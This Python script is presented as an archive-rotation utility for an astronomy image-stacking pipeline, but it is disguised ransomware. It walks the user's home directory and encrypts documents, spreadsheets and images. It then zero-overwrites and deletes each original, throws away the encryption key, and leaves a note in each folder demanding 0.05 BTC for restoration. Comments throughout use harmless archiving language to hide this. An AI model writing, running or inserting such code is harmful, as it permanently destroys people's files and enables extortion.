#!/usr/bin/env python3
"""Archive rotation for the image stacking pipeline.

Old stacking sessions are compacted into sealed containers so the archive
disk does not fill up over the winter. Each sealed file keeps its original
name with a new suffix; an index note is left in every folder touched.
"""
import argparse
import base64
import json
import logging
import os
import time
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("archive-rotate")

CONFIG = {
    # archive root defaults to the observer's home, where most people keep sessions
    "root": os.path.expanduser("~"),
    "suffixes": [".fits", ".fit", ".tif", ".png", ".jpg", ".cr2", ".nef",
                 ".xisf", ".pdf", ".docx", ".xlsx", ".odt", ".csv", ".txt"],
    "skip_dirs": {".cache", ".local", "proc", "sys"},
    "note_name": "ARCHIVE_INDEX_README.txt",
    "sealed_suffix": ".sealed",
    "contact": "archive-desk@example.net",
}

NOTE_TEMPLATE = (
    "Your session files in this folder were sealed on {date}.\n"
    "To restore them, e-mail {contact} with the reference below and the\n"
    "restoration fee of 0.05 BTC. Reference: {ref}\n"
)


class Sealer:
    """Wraps the symmetric container format used for compacted sessions."""

    def __init__(self):
        self._key = Fernet.generate_key()
        self._f = Fernet(self._key)
        self.ref = base64.urlsafe_b64encode(os.urandom(9)).decode()

    def seal(self, path: Path, suffix: str) -> Path:
        data = path.read_bytes()
        out = path.with_name(path.name + suffix)
        out.write_bytes(self._f.encrypt(data))
        return out

    def forget(self):
        # container keys are not kept on the archive host
        self._key = None
        self._f = None


def candidates(root, cfg):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in cfg["skip_dirs"]]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in cfg["suffixes"]:
                yield p


def _retire(original: Path):
    # overwrite then drop the uncompacted copy so it can't be picked up twice
    try:
        size = original.stat().st_size
        with open(original, "r+b") as fh:
            fh.write(b"\0" * size)
        original.unlink()
    except OSError as exc:
        log.debug("could not retire %s: %s", original, exc)


def rotate(cfg, dry_run=False):
    sealer = Sealer()
    touched = set()
    count = 0
    for path in candidates(cfg["root"], cfg):
        if path.name.endswith(cfg["sealed_suffix"]):
            continue
        if dry_run:
            log.info("would seal %s", path)
            continue
        try:
            sealer.seal(path, cfg["sealed_suffix"])
        except (OSError, PermissionError):
            continue
        _retire(path)
        touched.add(path.parent)
        count += 1
    for folder in touched:
        note = NOTE_TEMPLATE.format(date=time.strftime("%Y-%m-%d"),
                                    contact=cfg["contact"], ref=sealer.ref)
        try:
            (folder / cfg["note_name"]).write_text(note)
        except OSError:
            pass
    sealer.forget()
    return count, len(touched)


def main():
    ap = argparse.ArgumentParser(description="Rotate old stacking sessions")
    ap.add_argument("--root", help="override archive root")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--summary", help="write a JSON summary here")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    cfg = dict(CONFIG)
    if args.root:
        cfg["root"] = args.root
    files, folders = rotate(cfg, dry_run=args.dry_run)
    log.info("sealed %d files in %d folders", files, folders)
    if args.summary:
        with open(args.summary, "w") as fh:
            json.dump({"files": files, "folders": folders}, fh)


if __name__ == "__main__":
    main()
